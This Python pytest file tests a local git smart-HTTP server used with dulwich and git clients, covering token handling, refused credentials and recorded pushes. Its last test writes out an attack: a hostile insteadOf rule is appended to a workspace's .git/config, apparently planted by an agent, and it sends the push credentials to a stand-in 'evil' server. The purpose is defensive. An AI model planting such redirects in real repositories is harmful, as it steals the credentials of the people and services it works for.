"""The git smart-HTTP server of tests/githttp.py with dulwich and git as clients: credentials
passed beside the URL, never in it; wrong tokens refused; pushes recorded."""

from __future__ import annotations

import base64
import io
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from dulwich import porcelain
from dulwich.client import HTTPUnauthorized, get_transport_and_path
from dulwich.config import ConfigDict
from dulwich.repo import Repo

from tests.githttp import GitHttpServer, RefUpdate, git

USER = "x-access-token"
TOKEN = "ghs_T0ken+with/odd=chars"
ZERO = "0" * 40
NAME = "acme/widgets.git"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitHttpServer]:
    with GitHttpServer(tmp_path / "srv", USER, TOKEN) as srv:
        srv.create_repo(NAME, {"README.md": "hello\n", "src/app.py": "print(1)\n"})
        yield srv


def clone(server: GitHttpServer, target: Path, password: str = TOKEN) -> Repo:
    return porcelain.clone(
        server.url(NAME), str(target), username=USER, password=password, errstream=io.BytesIO()
    )


def commit_on_branch(repo_path: Path, branch: str, files: dict[str, str]) -> str:
    """A commit of files on a new branch of a clone, by dulwich."""
    for name, content in files.items():
        (repo_path / name).parent.mkdir(parents=True, exist_ok=True)
        (repo_path / name).write_text(content)
    with Repo(str(repo_path)) as repo:
        porcelain.add(repo, [str(repo_path / n) for n in files])
        head = repo.head()
        refs: Any = repo.refs
        refs[f"refs/heads/{branch}".encode()] = head
        porcelain.checkout(repo, branch)
        commit = porcelain.commit(
            repo, message=b"The agents' change", author=b"A <a@x>", committer=b"A <a@x>"
        )
    return commit.decode()


def no_token_in_any_url(server: GitHttpServer) -> None:
    for request in server.requests:
        assert TOKEN not in request.target
        assert "ghs_" not in request.target


def test_clone_with_the_forges_credentials(server: GitHttpServer, tmp_path: Path) -> None:
    with clone(server, tmp_path / "work") as repo:
        assert repo.head().decode() == server.refs(NAME)["refs/heads/main"]

    assert (tmp_path / "work" / "src" / "app.py").read_text() == "print(1)\n"
    config = (tmp_path / "work" / ".git" / "config").read_text()
    assert TOKEN not in config and USER not in config
    assert f"url = {server.url(NAME)}" in config
    assert server.requests and all(r.authorized and r.username == USER for r in server.requests)
    assert {r.service for r in server.requests} == {"git-upload-pack"}
    no_token_in_any_url(server)


def test_a_wrong_token_is_refused(server: GitHttpServer, tmp_path: Path) -> None:
    with pytest.raises(HTTPUnauthorized):
        clone(server, tmp_path / "work", password="wrong")

    assert [(r.status, r.authorized) for r in server.requests] == [(401, False)]


def test_no_credentials_get_401_with_www_authenticate(server: GitHttpServer) -> None:
    url = server.url(NAME) + "/info/refs?service=git-upload-pack"
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(url, timeout=10)

    assert caught.value.code == 401
    assert caught.value.headers["WWW-Authenticate"] == 'Basic realm="klaudio-test"'
    assert server.requests[0].username is None


def test_a_pushed_branch_is_recorded(server: GitHttpServer, tmp_path: Path) -> None:
    clone(server, tmp_path / "work").close()
    main = server.refs(NAME)["refs/heads/main"]
    commit = commit_on_branch(tmp_path / "work", "klaudio/3f2a9c1e", {"src/new.py": "x = 2\n"})
    server.requests.clear()

    porcelain.push(
        str(tmp_path / "work"),
        server.url(NAME),
        [b"refs/heads/klaudio/3f2a9c1e"],
        username=USER,
        password=TOKEN,
        outstream=io.BytesIO(),
        errstream=io.BytesIO(),
    )

    assert server.pushed == [RefUpdate(ZERO, commit, "refs/heads/klaudio/3f2a9c1e")]
    assert server.refs(NAME) == {"refs/heads/main": main, "refs/heads/klaudio/3f2a9c1e": commit}
    assert server.tree(NAME, commit)["src/new.py"] == b"x = 2\n"
    assert server.commit(NAME, commit)["parents"] == main
    assert server.commit(NAME, commit)["message"] == "The agents' change"
    assert {r.service for r in server.requests} == {"git-receive-pack"}
    no_token_in_any_url(server)


def test_a_push_with_a_wrong_token_changes_nothing(server: GitHttpServer, tmp_path: Path) -> None:
    clone(server, tmp_path / "work").close()
    before = server.refs(NAME)
    commit_on_branch(tmp_path / "work", "topic", {"a.txt": "a\n"})

    with pytest.raises(HTTPUnauthorized):
        porcelain.push(
            str(tmp_path / "work"),
            server.url(NAME),
            [b"refs/heads/topic"],
            username=USER,
            password="revoked",
            errstream=io.BytesIO(),
        )

    assert server.refs(NAME) == before and server.pushed == []


def test_a_rejected_push_reports_the_servers_reason(server: GitHttpServer, tmp_path: Path) -> None:
    clone(server, tmp_path / "work").close()
    before = server.refs(NAME)
    commit_on_branch(tmp_path / "work", "topic", {"a.txt": "a\n"})
    server.reject_pushes(NAME, "protected: pushes are closed")
    errors = io.BytesIO()

    result = porcelain.push(
        str(tmp_path / "work"),
        server.url(NAME),
        [b"refs/heads/topic"],
        username=USER,
        password=TOKEN,
        outstream=io.BytesIO(),
        errstream=errors,
    )

    assert (result.ref_status or {})[b"refs/heads/topic"] == "pre-receive hook declined"
    assert b"protected: pushes are closed" in errors.getvalue()
    assert server.refs(NAME) == before
    assert len(server.pushed) == 1  # asked for, not made


def test_git_itself_clones_and_pushes_a_large_change(server: GitHttpServer, tmp_path: Path) -> None:
    """Real git (chunked request bodies past http.postBuffer) with the token in a header."""
    header = "Authorization: Basic " + base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
    auth = ["-c", f"http.extraHeader={header}"]
    work = tmp_path / "git-work"
    git(*auth, "clone", "-q", server.url(NAME), work)
    git("-C", work, "checkout", "-q", "-b", "bulk")
    for n in range(300):
        (work / "bulk" / f"{n:03}.bin").parent.mkdir(exist_ok=True)
        (work / "bulk" / f"{n:03}.bin").write_bytes(bytes([n % 251]) * 8192 + str(n).encode())
    git("-C", work, "add", "-A")
    git("-C", work, "commit", "-q", "-m", "bulk")
    git("-C", work, *auth, "-c", "http.postBuffer=65536", "push", "-q", "origin", "bulk")

    commit = git("-C", work, "rev-parse", "HEAD").strip()
    assert server.refs(NAME)["refs/heads/bulk"] == commit
    assert len(server.tree(NAME, "bulk")) == 302
    push = [r for r in server.requests if r.pushed]
    assert push[0].headers.get("transfer-encoding") == "chunked"
    assert server.pushed == [RefUpdate(ZERO, commit, "refs/heads/bulk")]
    no_token_in_any_url(server)


def test_dulwichs_push_follows_the_repositorys_own_config(tmp_path: Path) -> None:
    """Why delivery never pushes from the workspace's .git: an agent-planted insteadOf sends
    the credentials elsewhere. A transport built with an empty config does not."""
    with (
        GitHttpServer(tmp_path / "good", USER, TOKEN) as good,
        GitHttpServer(tmp_path / "evil", None, "anything") as evil,
    ):
        good.create_repo(NAME)
        evil.create_repo(NAME)
        clone(good, tmp_path / "work").close()
        commit = commit_on_branch(tmp_path / "work", "topic", {"a.txt": "a\n"})
        with (tmp_path / "work" / ".git" / "config").open("a") as config:
            config.write(f'[url "{evil.origin}/"]\n\tinsteadOf = {good.origin}/\n')

        with pytest.raises(HTTPUnauthorized):  # evil wants another password: it saw ours
            porcelain.push(
                str(tmp_path / "work"),
                good.url(NAME),
                [b"refs/heads/topic"],
                username=USER,
                password=TOKEN,
                errstream=io.BytesIO(),
            )
        assert evil.requests[0].username == USER
        assert "authorization" in evil.requests[0].headers

        evil.requests.clear()
        client, path = get_transport_and_path(
            good.url(NAME), config=ConfigDict(), username=USER, password=TOKEN
        )
        with Repo(str(tmp_path / "work")) as repo:
            pack: Any = repo.generate_pack_data
            wanted: Any = {b"refs/heads/topic": commit.encode()}
            client.send_pack(path.encode(), lambda refs: {**refs, **wanted}, pack)
        assert evil.requests == []
        assert good.refs(NAME)["refs/heads/topic"] == commit
